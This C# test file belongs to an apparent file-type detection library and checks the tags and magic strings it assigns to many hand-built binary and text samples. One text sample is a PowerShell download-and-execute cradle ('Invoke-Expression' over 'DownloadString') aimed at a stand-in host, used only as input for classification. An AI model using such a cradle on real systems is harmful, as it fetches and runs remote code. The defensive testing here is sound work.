using System.Text;

namespace VtKit.StaticAnalysis.Tests;

/// <summary>Each type from content alone: the smallest content that is honestly of the type, written by hand or by the type's own rules.</summary>
public class TypeTests
{
    /// <summary>Name of the case, content, expected tag, expected description, expected start of the line of magic.</summary>
    public static TheoryData<string, byte[], string?, string, string> Binary() => new()
    {
        { "pe", new PeBuilder().Section(".text", [1]).Build(), "peexe", "Win32 EXE", "PE32 executable" },
        { "dll", new PeBuilder { IsDll = true }.Section(".text", [1]).Build(), "pedll", "Win32 DLL", "PE32 executable (DLL)" },
        { "ne", Dos("NE"), "neexe", "Win16 EXE", "MS-DOS executable, NE" },
        { "ne dll", Dos("NE", (13, 0x80)), "nedll", "Win16 DLL", "MS-DOS executable, NE" },
        { "mz", Dos(""), "mz", "DOS EXE", "MS-DOS executable" },
        { "elf", new ElfBuilder().Build(), "elf", "ELF", "ELF 64-bit" },
        { "macho", [0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1, .. new byte[40]], "macho", "Mach-O", "Mach-O 64-bit" },
        { "macho fat", [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 2, .. new byte[40]], "macho", "Mach-O", "Mach-O universal binary with 2" },
        { "class", [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 61, .. new byte[40]], "class", "Java Bytecode", "compiled Java class data, version 61.0" },
        { "dex", Latin("dex\n035\0", 112), "android", "Android", "Dalvik dex file" },
        { "deb", Latin("!<arch>\ndebian-binary   1700000000  0     0     100644  4         `\n2.0\n"), "deb", "Debian Package", "Debian binary package" },
        { "rpm", [0xED, 0xAB, 0xEE, 0xDB, 3, 0, .. new byte[100]], "rpm", "RPM", "RPM" },
        { "pyc", [0xA7, 0x0D, 0x0D, 0x0A, .. new byte[20]], "pyc", "Python bytecode", "Byte-compiled Python" },
        { "zip", new ZipBuilder().Add("a", [1]).Build(), "zip", "ZIP", "Zip archive data, at least v2.0 to extract, compression method=deflate" },
        { "jar", Zip("META-INF/MANIFEST.MF", "A.class"), "jar", "JAR", "Java archive data (JAR)" },
        { "apk", Zip("AndroidManifest.xml", "classes.dex", "META-INF/MANIFEST.MF"), "android", "Android", "Zip archive data" },
        { "ipa", Zip("Payload/App.app/Info.plist"), "iphone", "iOS", "iOS App" },
        { "docx", Zip("[Content_Types].xml", "word/document.xml"), "docx", "Office Open XML Document", "Microsoft Word 2007+" },
        { "xlsx", Zip("[Content_Types].xml", "xl/workbook.xml"), "xlsx", "Office Open XML Spreadsheet", "Microsoft Excel 2007+" },
        { "pptx", Zip("[Content_Types].xml", "ppt/presentation.xml"), "pptx", "Office Open XML Slide Show", "Microsoft PowerPoint 2007+" },
        { "odt", Document("application/vnd.oasis.opendocument.text"), "odt", "OpenDocument Text", "OpenDocument Text" },
        { "ods", Document("application/vnd.oasis.opendocument.spreadsheet"), "ods", "OpenDocument Spreadsheet", "OpenDocument Spreadsheet" },
        { "odp", Document("application/vnd.oasis.opendocument.presentation"), "odp", "OpenDocument Presentation", "OpenDocument Presentation" },
        { "epub", Document("application/epub+zip"), "epub", "EPUB", "EPUB document" },
        { "xpi", Zip("install.rdf"), "xpi", "Mozilla Extension", "Zip archive data" },
        { "doc", Ole("WordDocument"), "doc", "MS Word Document", "Composite Document File V2" },
        { "xls", Ole("Workbook"), "xls", "MS Excel Spreadsheet", "Composite Document File V2" },
        { "xls95", Ole("Book"), "xls", "MS Excel Spreadsheet", "Composite Document File V2" },
        { "ppt", Ole("PowerPoint Document"), "ppt", "MS PowerPoint Presentation", "Composite Document File V2" },
        { "msg", Ole("__properties_version1.0"), "outlook", "Outlook", "CDFV2 Microsoft Outlook" },
        { "hwp", Ole("\u0005HwpSummaryInformation"), "hwp", "Hangul Word Processor Document", "Hangul" },
        { "msi", Ole("x", new Guid("000C1084-0000-0000-C000-000000000046")), "msi", "Windows Installer", "Composite Document File V2 Document, MSI Installer" },
        { "ole", Ole("x"), null, "unknown", "Composite Document File V2" },
        { "7z", Latin("7z\u00bc\u00af\u0027\u001c\0\u0004", 40), "7zip", "7ZIP", "7-zip archive" },
        { "rar4", Latin("Rar!\u001a\u0007\0", 40), "rar", "RAR", "RAR archive data, v4" },
        { "rar5", Latin("Rar!\u001a\u0007\u0001\0", 40), "rar", "RAR", "RAR archive data, v5" },
        { "gzip", [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3, 3, 0], "gzip", "GZIP", "gzip compressed" },
        { "bzip", Latin("BZh91AY&SY", 40), "bzip", "BZIP", "bzip2 compressed data, block size = 900k" },
        { "xz", Latin("\u00fd7zXZ\0\0\u0004", 40), "xz", "XZ", "XZ compressed" },
        { "zst", Latin("\u0028\u00b5\u002f\u00fd\u0004", 40), "zst", "Zstandard", "Zstandard compressed" },
        { "lzfse", Latin("bvx2", 40), "lzfse", "LZFSE", "lzfse" },
        { "tar", Tar(), "tar", "TAR", "POSIX tar archive" },
        { "cab", Latin("MSCF\0\0\0\0", 60), "cab", "CAB", "Microsoft Cabinet" },
        { "arj", [0x60, 0xEA, 0x2A, 0, 0x1E, 11, 1, 0, 0x10, 0, 2, .. new byte[40]], "arj", "ARJ", "ARJ archive" },
        { "ace", Latin("\u0001\u00021\0\0\0\u0090**ACE**", 40), "ace", "ACE", "ACE archive" },
        { "iso", [.. new byte[0x8000], 1, .. "CD001"u8, .. new byte[2048]], "isoimage", "ISO image", "ISO 9660" },
        { "dmg", [.. Samples.Random(1, 2000), .. "koly"u8, .. new byte[508]], "dmg", "Macintosh Disk Image", "zlib compressed" },
        { "vhd", Latin("conectix", 512), "vhd", "Virtual Hard Disk", "Microsoft Disk Image" },
        { "fixed vhd", [.. new byte[4096], .. "conectix"u8, .. new byte[504]], "vhd", "Virtual Hard Disk", "Microsoft Disk Image" },
        { "pdf", Latin("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n"), "pdf", "PDF", "PDF document, version 1.7" },
        { "pdf behind junk", Latin("junk\n\n%PDF-1.4\n"), "pdf", "PDF", "PDF document, version 1.4" },
        { "rtf", Latin("{\\rtf1\\ansi hello}"), "rtf", "Rich Text Format", "Rich Text Format data" },
        { "rtf as exploits write it", Latin("{\\rt\u00ff\\object"), "rtf", "Rich Text Format", "Rich Text Format data" },
        { "ps", Latin("%!PS-Adobe-3.0\n"), "ps", "PostScript", "PostScript" },
        { "onenote", [0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D, 0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96, 0xD3, .. new byte[40]], "onenote", "MS OneNote", "Microsoft OneNote" },
        { "pcap", [0xD4, 0xC3, 0xB2, 0xA1, 2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xFF, 0xFF, 0, 0, 1, 0, 0, 0], "cap", "Network capture",
            "pcap capture file, microsecond ts (little-endian) - version 2.4 (Ethernet, capture length 65535)" },
        { "pcapng", [0x0A, 0x0D, 0x0D, 0x0A, 28, 0, 0, 0, 0x4D, 0x3C, 0x2B, 0x1A, 1, 0, 0, 0], "cap", "Network capture", "pcapng capture" },
        { "swf", Latin("CWS\u0009\u0000\u0001\0\0x\u009c", 40), "flash", "Flash", "Macromedia Flash data (compressed), version 9" },
        { "torrent", Latin("d8:announce20:http://tracker/a.b.c4:infod6:lengthi1eee"), "bittorrent", "BitTorrent", "BitTorrent file" },
        { "crx", Latin("Cr24\u0003\0\0\0", 40), "crx", "Chrome Extension", "Google Chrome extension" },
        { "png", Latin("\u0089PNG\r\n\u001a\n\0\0\0\rIHDR", 40), "png", "PNG", "PNG image data" },
        { "jpeg", [0xFF, 0xD8, 0xFF, 0xE0, 0, 16, .. "JFIF\0"u8], "jpeg", "JPEG", "JPEG image data" },
        { "gif", Latin("GIF89a", 40), "gif", "GIF", "GIF image data, version 89a" },
        { "bmp", [(byte)'B', (byte)'M', 0x46, 0, 0, 0, 0, 0, 0, 0, 0x36, 0, 0, 0, 40, 0, 0, 0, .. new byte[40]], "bmp", "BMP", "PC bitmap" },
        { "tiff", [.. "II*\0"u8, 8, 0, 0, 0], "tiff", "TIFF", "TIFF image data, little-endian" },
        { "ico", [0, 0, 1, 0, 1, 0, 16, 16, 0, 0, 1, 0, 32, 0, 4, 0, 0, 0, 22, 0, 0, 0, 1, 2, 3, 4], "ico", "ICO", "MS Windows icon resource - 1 icon" },
        { "psd", Latin("8BPS\0\u0001", 40), "psd", "PSD", "Adobe Photoshop" },
        { "emf", [1, 0, 0, 0, .. new byte[36], .. " EMF\0\0\u0001\0"u8, .. new byte[40]], "emf", "EMF", "Windows Enhanced Metafile" },
        { "webp", Latin("RIFF\u0010\0\0\0WEBPVP8 ", 40), "webp", "WEBP", "RIFF (little-endian) data, Web/P" },
        { "xcf", Latin("gimp xcf v011\0", 40), "gimp", "GIMP", "GIMP XCF" },
        { "mp3", Latin("ID3\u0004\0\0", 40), "mp3", "MP3", "Audio file with ID3" },
        { "bare mp3", Mp3(), "mp3", "MP3", "MPEG ADTS, layer III" },
        { "wav", Latin("RIFF\u0010\0\0\0WAVEfmt ", 40), "wav", "WAV", "RIFF (little-endian) data, WAVE" },
        { "flac", Latin("fLaC\0\0\0\u0022", 40), "flac", "FLAC", "FLAC audio" },
        { "midi", Latin("MThd\0\0\0\u0006\0\u0001\0\u0001\0\u0060", 40), "midi", "MIDI", "Standard MIDI" },
        { "ogg", Latin("OggS\0\u0002", 40), "ogg", "OGG", "Ogg data" },
        { "mp4", Latin("\0\0\0\u0018ftypmp42\0\0\0\0", 40), "mp4", "MP4", "ISO Media, MP4" },
        { "mov", Latin("\0\0\0\u0014ftypqt  \0\0\0\0", 40), "mov", "QuickTime", "ISO Media, Apple QuickTime" },
        { "3gp", Latin("\0\0\0\u0018ftyp3gp4\0\0\0\0", 40), "3gp", "3GP", "ISO Media, MPEG v4 system, 3GPP" },
        { "avi", Latin("RIFF\u0010\0\0\0AVI LIST", 40), "avi", "AVI", "RIFF (little-endian) data, AVI" },
        { "mkv", Latin("\u001a\u0045\u00df\u00a3\u00a3\u0042\u0082\u0088matroska", 40), "mkv", "Matroska", "Matroska" },
        { "webm", Latin("\u001a\u0045\u00df\u00a3\u009f\u0042\u0082\u0084webm", 40), "webm", "WEBM", "WebM" },
        { "flv", Latin("FLV\u0001\u0005\0\0\0\u0009", 40), "flv", "FLV", "Macromedia Flash Video" },
        { "asf", [0x30, 0x26, 0xB2, 0x75, 0x8E, 0x66, 0xCF, 0x11, 0xA6, 0xD9, 0, 0xAA, 0, 0x62, 0xCE, 0x6C, .. new byte[20]], "asf", "ASF", "Microsoft ASF" },
        { "mpeg", [0, 0, 1, 0xBA, 0x44, .. new byte[20]], "mpeg", "MPEG", "MPEG sequence" },
        { "lnk", Latin("L\0\0\0\u0001\u0014\u0002\0\0\0\0\0\u00c0\0\0\0\0\0\0F", 80), "lnk", "Windows shortcut", "MS Windows shortcut" },
        { "chm", Latin("ITSF\u0003\0\0\0", 80), "chm", "Windows HTML Help", "MS Windows HtmlHelp" },
        { "ttf", [0, 1, 0, 0, 0, 1, 0, 16, 0, 0, 0, 0, .. "cmap"u8, .. new byte[12]], "ttf", "TrueType Font", "TrueType Font" },
        { "plist", Latin("bplist00\u00d1\u0001", 40), "appleplist", "Apple Plist", "Apple binary property list" },
        { "sqlite", Latin("SQLite format 3\0", 100), null, "unknown", "SQLite 3.x database" },
        { "certificate", [0x30, 0x82, 3, 1, 0x30, 0x82, 1, 1, 0xA0, 3, 2, 1, 2, 2, 20, .. new byte[20]], null, "unknown", "Certificate, Version=3" },
        { "icon cache", Latin("\0\u0001\0\0\0\0\0\u000chicolor", 100), null, "unknown", "data" },
        { "jet database", Latin("\0\u0001\0\0Standard Jet DB", 100), null, "unknown", "data" },
        { "type 1 font", Latin("%!PS-AdobeFont-1.0: X 1\n"), null, "unknown", "PostScript Type 1 font text" },
        { "type 1 font of old", Latin("%!FontType1-1.0: X 1\n"), null, "unknown", "PostScript Type 1 font program data" },
        { "python 2.7", Latin("\u0003\u00f3\r\n\0\0\0\u005fc", 40), "pyc", "Python bytecode", "python 2.7 byte-compiled" },
        { "coff", Coff(), "coff", "COFF", "Intel amd64 COFF object file" },
        { "coff whose symbols lie outside", Coff(symbolsAt: 4000), null, "unknown", "data" },
        { "data", Samples.Random(5, 1000), null, "unknown", "data" },
        { "empty", [], null, "unknown", "empty" },
        { "one byte", [0x0A], null, "unknown", "very short file (no magic)" },
    };

    [Theory]
    [MemberData(nameof(Binary))]
    public async Task Binary_types_are_known_by_their_content(string name, byte[] content, string? tag, string description, string magic)
    {
        var facts = await Samples.AnalyzeAsync(content);
        facts.Type.Tag.ShouldBe(tag, name);
        facts.Type.Description.ShouldBe(description);
        facts.Type.Magic.ShouldStartWith(magic);
        if (tag is null) facts.Type.Tags.ShouldBeEmpty();
        else facts.Tags[0].ShouldBe(tag);
    }

    [Theory]
    [InlineData("hello\n", "text", "ASCII text")]
    [InlineData("hello", "text", "ASCII text, with no line terminators")]
    [InlineData("a\r\nb\r\n", "text", "ASCII text, with CRLF line terminators")]
    [InlineData("a\r\nb\n", "text", "ASCII text, with CRLF, LF line terminators")]
    [InlineData("grün\n", "text", "Unicode text, UTF-8 text")]
    [InlineData("{\"a\": [1, 2, {\"b\": null}]}", "json", "JSON text data")]
    [InlineData("[section]\nkey=value\n", "text", "ASCII text")]
    [InlineData("{ not json }\n", "text", "ASCII text")]
    [InlineData("<?xml version=\"1.0\"?>\n<root/>\n", "xml", "XML 1.0 document, ASCII text")]
    [InlineData("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>", "svg", "SVG Scalable Vector Graphics image")]
    [InlineData("<?xml version=\"1.0\"?>\n<!DOCTYPE plist PUBLIC \"x\" \"y\">\n<plist/>\n", "appleplist", "XML 1.0 document, ASCII text")]
    [InlineData("\n <!DOCTYPE html>\n<p>hi</p>\n", "html", "HTML document, ASCII text")]
    [InlineData("<HTML><body>x</body></HTML>\n", "html", "HTML document, ASCII text")]
    [InlineData("<?php echo 1; ?>\n", "php", "PHP script, ASCII text")]
    [InlineData("#!/bin/bash\necho hi\n", "shell", "Bourne-Again shell script, ASCII text executable")]
    [InlineData("#!/bin/sh\necho hi\n", "shell", "POSIX shell script, ASCII text executable")]
    [InlineData("#!/bin/sh -e\necho hi\n", "shell", "POSIX shell script, ASCII text executable")]
    [InlineData("#!/usr/bin/env -S bash -e\necho hi\n", "shell", "Bourne-Again shell script, ASCII text executable")]
    [InlineData("#!/opt/python/bin/tool\nx\n", "text", "ASCII text")]
    [InlineData("#!/usr/bin/publish\nx\n", "text", "ASCII text")]
    [InlineData("#!\nx\n", "text", "ASCII text")]
    [InlineData("#!", "text", "ASCII text, with no line terminators")]
    [InlineData("[PHP]\n; begin with <?php\nengine = On\n", "text", "ASCII text")]
    [InlineData("junk\n  <?php echo 1;\n", "php", "PHP script, ASCII text")]
    [InlineData("<html><?php echo 1; ?></html>\n", "php", "PHP script, ASCII text")]
    [InlineData("#!/usr/bin/env python3\nprint(1)\n", "python", "Python script, ASCII text executable")]
    [InlineData("#!/usr/bin/perl -w\nprint 1;\n", "perl", "Perl script, ASCII text executable")]
    [InlineData("#!/usr/bin/env ruby\nputs 1\n", "ruby", "Ruby script, ASCII text executable")]
    [InlineData("#!/usr/bin/env node\nfoo\n", "javascript", "Node.js script, ASCII text executable")]
    [InlineData("import os\nimport sys\n\ndef main():\n    return 1\n\nif __name__ == '__main__':\n    main()\n", "python", "Python script, ASCII text executable")]
    [InlineData("$x = New-Object Net.WebClient\nInvoke-Expression $x.DownloadString('http://a')\n", "powershell", "ASCII text")]
    [InlineData("Dim s As String\nSet o = CreateObject(\"x\")\nOn Error Resume Next\n", "vba", "ASCII text")]
    [InlineData("Attribute VB_Name = \"Module1\"\n", "vba", "ASCII text")]
    [InlineData("var a = function(x) { return document.body; };\nconsole.log(a);\n", "javascript", "JavaScript source, ASCII text")]
    [InlineData("#include <stdio.h>\nint main(void) { return 0; }\n", "c", "C source, ASCII text")]
    [InlineData("#include <vector>\nint main() { std::vector<int> v; }\n", "cpp", "C++ source, ASCII text")]
    [InlineData("package a.b;\nimport java.util.List;\npublic class A { }\n", "java", "Java source, ASCII text")]
    [InlineData("use strict;\nmy $x = 1;\n", "perl", "Perl script, ASCII text executable")]
    [InlineData("From: a@b.c\nTo: d@e.f\nSubject: hi\nDate: Mon, 1 Jan 2024 00:00:00 +0000\n\nbody\n", "email", "SMTP mail, ASCII text")]
    [InlineData("Received: from a\n\tby b;\n Mon\nMIME-Version: 1.0\nSubject: hi\n\nbody\n", "email", "SMTP mail, ASCII text")]
    [InlineData("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n", "pem", "PEM certificate")]
    [InlineData("-----BEGIN PGP MESSAGE-----\n\nhQ\n", "pgp", "PGP message")]
    [InlineData("MZ is how this sentence starts, and it is long enough to be a header of a program, but it is none.\n", "text", "ASCII text")]
    [InlineData("BM, RIFF and ftyp: words of a text.\n", "text", "ASCII text")]
    public async Task Kinds_of_text_are_told_apart(string text, string tag, string magic)
    {
        var facts = await Samples.AnalyzeAsync(text);
        facts.Type.Tag.ShouldBe(tag);
        facts.Type.Magic.ShouldBe(magic);
    }

    [Fact]
    public async Task Long_lines_and_encodings_are_described()
    {
        (await Samples.AnalyzeAsync(new string('x', 315) + "\n")).Type.Magic.ShouldBe("ASCII text, with very long lines (315u)");
        (await Samples.AnalyzeAsync("\uFEFFtext\n")).Type.Magic.ShouldBe("Unicode text, UTF-8 (with BOM) text");
        (await Samples.AnalyzeAsync([0xFF, 0xFE, (byte)'a', 0, (byte)'\n', 0])).Type.Magic.ShouldBe("Unicode text, UTF-16, little-endian text");
        (await Samples.AnalyzeAsync([.. "gr"u8, 0xFC, .. "n\n"u8])).Type.Magic.ShouldBe("ISO-8859 text");
        (await Samples.AnalyzeAsync([.. "gr"u8, 0x81, .. "n\n"u8])).Type.Magic.ShouldBe("Non-ISO extended-ASCII text");
        (await Samples.AnalyzeAsync([.. "a"u8, 0, .. "b\n"u8])).Type.Magic.ShouldBe("data");
    }

    [Fact]
    public async Task A_character_cut_by_the_look_at_the_beginning_does_not_make_a_text_binary()
    {
        // 64 KiB end in the middle of the last of many two-byte characters.
        var text = Encoding.UTF8.GetBytes("x" + string.Concat(Enumerable.Repeat("ü\n", 40_000)));
        (await Samples.AnalyzeAsync(text)).Type.Magic.ShouldBe("Unicode text, UTF-8 text");
    }

    [Fact]
    public async Task A_text_of_deep_or_endless_JSON_is_looked_at_in_bounded_depth()
    {
        (await Samples.AnalyzeAsync(new string('[', 100_000))).Type.Tag.ShouldBe("text");
        (await Samples.AnalyzeAsync("[" + string.Concat(Enumerable.Repeat("{\"a\":1},", 50_000)) + "1]")).Type.Tag.ShouldBe("json");
    }

    [Fact]
    public void More_than_forty_types_are_proven()
    {
        var tags = Binary().Select(row => (string?)((object?[])row)[2]).Where(tag => tag is not null).Distinct(StringComparer.Ordinal);
        tags.Count().ShouldBeGreaterThanOrEqualTo(79);
    }

    [ToolTheory("file", "python3")]
    [InlineData("tar", "import tarfile; t=tarfile.open(p,'w'); t.add('/etc/hostname'); t.close()", "POSIX tar archive")]
    [InlineData("gzip", "import gzip; gzip.open(p,'wb').write(b'x'*100)", "gzip compressed data")]
    [InlineData("bzip", "import bz2; bz2.open(p,'wb').write(b'x'*100)", "bzip2 compressed data, block size = 900k")]
    [InlineData("xz", "import lzma; lzma.open(p,'wb').write(b'x'*100)", "XZ compressed data")]
    [InlineData("wav", "import wave; w=wave.open(p,'wb'); w.setparams((1,1,8000,0,'NONE','')); w.writeframes(b'a'*99); w.close()", "RIFF (little-endian) data, WAVE audio")]
    [InlineData("pyc", "import py_compile; s=p+'.py'; open(s,'w').write('x=1'); py_compile.compile(s,cfile=p)", "Byte-compiled Python module")]
    [InlineData("appleplist", "import plistlib; plistlib.dump({'a':1},open(p,'wb'),fmt=plistlib.FMT_BINARY)", "Apple binary property list")]
    [InlineData("zip", "import zipfile; z=zipfile.ZipFile(p,'w',8); z.writestr('a','b'); z.close()", "Zip archive data, at least v2.0 to extract, compression method=deflate")]
    public async Task What_libraries_write_is_known_as_file_knows_it(string tag, string script, string magic)
    {
        using var folder = new TempFolder();
        var path = folder.File("sample");
        await Tool.RunAsync("python3", "-c", $"import sys; p=sys.argv[1]; {script}", path);
        var facts = await FileAnalyzer.AnalyzeFileAsync(path);
        facts.Type.Tag.ShouldBe(tag);
        facts.Type.Magic.ShouldStartWith(magic);
        // The first words are those of the tool; it goes into more detail behind them.
        (await Tool.RunAsync("file", "-b", path)).Trim().ShouldStartWith(magic[..Math.Min(magic.Length, 20)]);
    }

    [Fact]
    public async Task The_name_of_a_file_means_nothing()
    {
        using var folder = new TempFolder();
        (await FileAnalyzer.AnalyzeFileAsync(folder.Write("invoice.pdf.exe", "just text\n"))).Type.Tag.ShouldBe("text");
    }

    private static byte[] Latin(string text, int length = 0)
    {
        var bytes = Samples.Bytes(text);
        Array.Resize(ref bytes, Math.Max(length, bytes.Length));
        return bytes;
    }

    /// <summary>One section and no symbols, where nothing else is asked for.</summary>
    private static byte[] Coff(int symbolsAt = 0) =>
        [0x64, 0x86, 1, 0, 0, 0, 0, 0, .. BitConverter.GetBytes(symbolsAt), 0, 0, 0, 0, 0, 0, 4, 0, .. ".text\0\0\0"u8, .. new byte[32]];

    private static byte[] Dos(string next, params (int At, byte Value)[] more)
    {
        var file = new byte[512];
        file[0] = (byte)'M';
        file[1] = (byte)'Z';
        file[8] = 4;
        file[60] = 128;
        Samples.Bytes(next).CopyTo(file, 128);
        foreach (var (at, value) in more) file[128 + at] = value;
        return file;
    }

    private static byte[] Zip(params string[] names)
    {
        var zip = new ZipBuilder();
        foreach (var name in names) zip.Add(name, "content"u8.ToArray());
        return zip.Build();
    }

    private static byte[] Document(string mimeType) =>
        new ZipBuilder().Add("mimetype", Encoding.ASCII.GetBytes(mimeType), deflate: false).Add("content.xml", [1]).Build();

    private static byte[] Tar()
    {
        var tar = new byte[1024];
        Samples.Bytes("a.txt").CopyTo(tar, 0);
        Samples.Bytes("ustar\0").CopyTo(tar, 257);
        return tar;
    }

    /// <summary>Two frames of 128 kbit/s at 44.1 kHz: 417 bytes apart.</summary>
    private static byte[] Mp3() => [0xFF, 0xFB, 0x90, 0x00, .. new byte[413], 0xFF, 0xFB, 0x90, 0x00, .. new byte[413]];

    /// <summary>A compound file of three sectors: allocation table, directory, nothing.</summary>
    private static byte[] Ole(string stream, Guid root = default)
    {
        var file = new byte[512 * 4];
        byte[] magic = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
        magic.CopyTo(file, 0);
        file[26] = 3;
        file[28] = 0xFE;
        file[29] = 0xFF;
        file[30] = 9;
        file[44] = 1;
        file[48] = 1;
        BitConverter.TryWriteBytes(file.AsSpan(512), 0xFFFF_FFFDu);
        BitConverter.TryWriteBytes(file.AsSpan(516), 0xFFFF_FFFEu);
        Entry(1024, "Root Entry", 5);
        root.TryWriteBytes(file.AsSpan(1024 + 80));
        Entry(1152, stream, 2);
        return file;

        void Entry(int at, string name, byte type)
        {
            Encoding.Unicode.GetBytes(name).CopyTo(file, at);
            file[at + 64] = (byte)(name.Length * 2 + 2);
            file[at + 66] = type;
        }
    }
}
